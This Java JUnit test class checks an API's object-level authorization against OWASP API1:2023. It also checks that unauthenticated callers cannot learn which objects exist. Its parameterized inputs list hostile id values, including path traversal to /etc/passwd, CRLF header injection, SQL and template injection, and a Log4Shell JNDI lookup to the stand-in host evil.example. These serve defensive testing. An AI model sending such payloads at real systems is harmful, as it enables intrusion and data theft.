package dev.trimaran.function.security.owasp;

import static org.assertj.core.api.Assertions.assertThat;

import dev.trimaran.function.Listener;
import dev.trimaran.function.Request;
import dev.trimaran.function.Response;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * API1:2023 Broken Object Level Authorization. A function's objects (models, versions) belong to
 * nobody in particular: whoever may call, may call all of them, so that there is no other owner's
 * object to reach by its id. What is left of the risk is to reach by an id what is no object.
 */
public class Api1ObjectAuthorizationTest extends Attack {

  private Stream<Request> objects(String id) {
    return target().objects().stream().map(path -> Request.get(path.replace("{id}", id)));
  }

  @Test
  void an_object_that_is_there_is_reached() {
    assertThat(objects(target().object()))
        .allSatisfy(request -> assertThat(status(withKey(callerKey(), request))).isEqualTo(200));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "..",
        "%2e%2e",
        "..%2F..%2F..%2Fetc%2Fpasswd",
        "..%5C..%5Cwindows",
        "%2Fetc%2Fpasswd",
        "file:%2F%2F%2Fetc%2Fpasswd",
        "%00",
        "a%00b",
        "%0d%0aSet-Cookie:%20a=b",
        "'%20OR%20'1'='1",
        "%7B%7B1337*1337%7D%7D",
        "$%7Bjndi:ldap:%2F%2Fevil.example%2Fa%7D",
        "*",
        "%C0%AE%C0%AE",
      })
  void an_id_that_is_none_reaches_nothing(String id) {
    assertThat(objects(id))
        .isNotEmpty()
        .allSatisfy(request -> {
          Response response = answer(withKey(callerKey(), request));
          assertThat(response.status()).isBetween(400, 499);
          assertThat(response.text()).doesNotContain("root:", "Exception", "1787569");
        });
  }

  @Test
  void a_long_id_costs_nothing_and_is_not_repeated() {
    assertThat(objects("a".repeat(7000)))
        .allSatisfy(request -> {
          Response response = answer(withKey(callerKey(), request));
          assertThat(response.status()).isBetween(400, 499);
          assertThat(response.body().length).isLessThan(8192);
        });
  }

  @Test
  void who_may_not_call_does_not_learn_which_objects_are_there() {
    for (String path : target().objects()) {
      List<Response> answers =
          Stream.of(target().object(), "there-is-no-such-thing")
              .map(id -> Request.get(path.replace("{id}", id)))
              .map(this::answer)
              .toList();

      assertThat(answers).extracting(Response::status).containsOnly(401);
      assertThat(answers.get(0).text()).isEqualTo(answers.get(1).text());
    }
  }

  @Test
  void an_operators_object_is_not_there_for_callers() {
    for (String key : List.of(callerKey(), watcherKey(), operatorKey())) {
      assertThat(status(withKey(key, target().operate()))).isEqualTo(404);
    }
    assertThat(status(withKey(callerKey(), target().operate().through(Listener.ADMIN))))
        .isEqualTo(403);
  }
}
